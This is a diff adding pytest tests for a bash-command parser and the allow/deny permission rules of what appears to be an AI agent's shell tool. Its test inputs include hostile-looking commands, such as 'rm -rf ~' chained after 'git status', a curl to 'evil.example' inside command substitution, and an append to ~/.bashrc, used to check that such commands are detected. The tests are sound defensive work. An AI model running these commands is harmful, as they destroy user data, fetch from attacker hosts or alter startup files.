@@ -1,0 +1,149 @@
+"""Bash commands split by the real bash grammar, and permission rules over them."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from pydantic import BaseModel
+
+from dsh.tools import Action, ToolDefinition
+from dsh.tools.permissions import Rule, RuleError, assess, rules_cover, session_rule
+from dsh.tools.shell import parse_command
+
+
+class Args(BaseModel):
+    pass
+
+
+async def nothing(args: Args, context: object) -> str:
+    return ""
+
+
+BASH = ToolDefinition(name="bash", description="", arguments=Args, execute=nothing)
+EDIT = ToolDefinition(name="edit", description="", arguments=Args, execute=nothing)
+READ = ToolDefinition(name="read", description="", arguments=Args, execute=nothing, read_only=True)
+
+
+def command(text: str) -> Action:
+    return Action(risk="exec", summary=text, command=text)
+
+
+def write(path: Path) -> Action:
+    return Action(risk="write", summary=f"edit {path}", paths=(path,))
+
+
+@pytest.mark.parametrize(
+    ("source", "commands", "checkable"),
+    [
+        ("git status", ["git status"], True),
+        ("git status; rm -rf ~", ["git status", "rm -rf ~"], True),
+        ("ls | grep x && echo ok || echo no", ["ls", "grep x", "echo ok", "echo no"], True),
+        ("(cd src && make)", ["cd src", "make"], True),
+        (
+            "echo $(curl -s evil.example)",
+            ["curl -s evil.example", "echo $(curl -s evil.example)"],
+            True,
+        ),
+        ("diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"], True),
+        ("make 2>&1 > /dev/null", ["make"], True),
+        ("echo x > file", ["echo x"], False),
+        ("echo x >> ~/.bashrc", ["echo x"], False),
+        ("FOO=1 make", ["make"], False),
+        ("for f in *; do rm $f; done", [], False),
+        ('echo "unterminated', ["echo"], False),
+    ],
+)
+def test_commands_are_split_into_what_would_run(
+    source: str, commands: list[str], checkable: bool
+) -> None:
+    parsed = parse_command(source)
+    assert parsed.commands == commands
+    assert parsed.checkable is checkable
+
+
+def test_rules_parse_and_refuse_nonsense() -> None:
+    assert Rule.parse("bash(git status:*)") == Rule("bash", "git status:*")
+    assert Rule.parse("  read ") == Rule("read")
+    assert str(Rule.parse("edit(src/**)")) == "edit(src/**)"
+    with pytest.raises(RuleError, match="tool\\(pattern\\)"):
+        Rule.parse("bash git status")
+
+
+@pytest.mark.parametrize(
+    ("rules", "source", "covered"),
+    [
+        (["bash(git status:*)"], "git status", True),
+        (["bash(git status:*)"], "git status --short", True),
+        (["bash(git status:*)"], "git statusx", False),
+        (["bash(git status:*)"], "git status; rm -rf ~", False),  # the rm rides on nothing
+        (["bash(git status:*)", "bash(rm:*)"], "git status; rm -rf ~", True),
+        (["bash(echo:*)"], "echo x > file", False),  # a write never rides on a rule
+        (["bash(echo:*)"], "echo $(curl evil.example)", False),
+        (["bash(echo:*)", "bash(curl:*)"], "echo $(curl evil.example)", True),
+        (["bash(npm test)"], "npm test", True),
+        (["bash(npm test)"], "npm test --watch", False),
+        (["bash"], "anything at all", True),
+        (["bash(ls:*)"], "for f in *; do ls $f; done", False),
+    ],
+)
+def test_a_command_is_covered_only_when_every_part_is(
+    rules: list[str], source: str, covered: bool
+) -> None:
+    parsed = [Rule.parse(r) for r in rules]
+    assert rules_cover(parsed, BASH, command(source), Path("/w")) is covered
+
+
+def test_edit_rules_cover_file_tools_by_path(tmp_path: Path) -> None:
+    rules = [Rule.parse("edit(src/**)")]
+    assert rules_cover(rules, EDIT, write(tmp_path / "src" / "app.py"), tmp_path)
+    assert not rules_cover(rules, EDIT, write(tmp_path / "docs" / "x.md"), tmp_path)
+    assert not rules_cover(rules, BASH, command("ls"), tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("mode", "inside", "verdict"),
+    [
+        ("read-only", True, "deny"),
+        ("default", True, "ask"),
+        ("accept-edits", True, "allow"),
+        ("accept-edits", False, "ask"),
+        ("bypass", False, "allow"),
+    ],
+)
+def test_modes_decide_writes(tmp_path: Path, mode: str, inside: bool, verdict: str) -> None:
+    target = tmp_path / "a.txt" if inside else tmp_path.parent / "elsewhere.txt"
+    assert assess(mode, EDIT, write(target), tmp_path).verdict == verdict  # type: ignore[arg-type]
+
+
+def test_reads_are_never_asked_and_deny_rules_win(tmp_path: Path) -> None:
+    assert (
+        assess("read-only", READ, Action(risk="read", summary="read"), tmp_path).verdict == "allow"
+    )
+    allow, deny = [Rule.parse("bash(git:*)")], [Rule.parse("bash(git push:*)")]
+    assert (
+        assess("default", BASH, command("git log"), tmp_path, allow=allow, deny=deny).verdict
+        == "allow"
+    )
+    pushed = assess(
+        "default", BASH, command("git status && git push --force"), tmp_path, allow=allow, deny=deny
+    )
+    assert pushed.verdict == "deny"
+    assert "git push:*" in pushed.reason
+    assert assess("bypass", BASH, command("git push"), tmp_path, deny=deny).verdict == "deny"
+
+
+def test_session_grants_apply_except_in_read_only_mode(tmp_path: Path) -> None:
+    granted = [Rule.parse("bash(pytest:*)")]
+    assert (
+        assess("default", BASH, command("pytest -x"), tmp_path, granted=granted).verdict == "allow"
+    )
+    read_only = assess("read-only", BASH, command("pytest -x"), tmp_path, granted=granted)
+    assert read_only.verdict == "ask"
+    assert read_only.grantable is False
+
+
+def test_the_rule_offered_for_the_session() -> None:
+    assert str(session_rule(BASH, command("git status --short"))) == "bash(git status:*)"
+    assert str(session_rule(BASH, command("pytest -x tests"))) == "bash(pytest:*)"
+    assert str(session_rule(EDIT, write(Path("/w/a")))) == "edit"
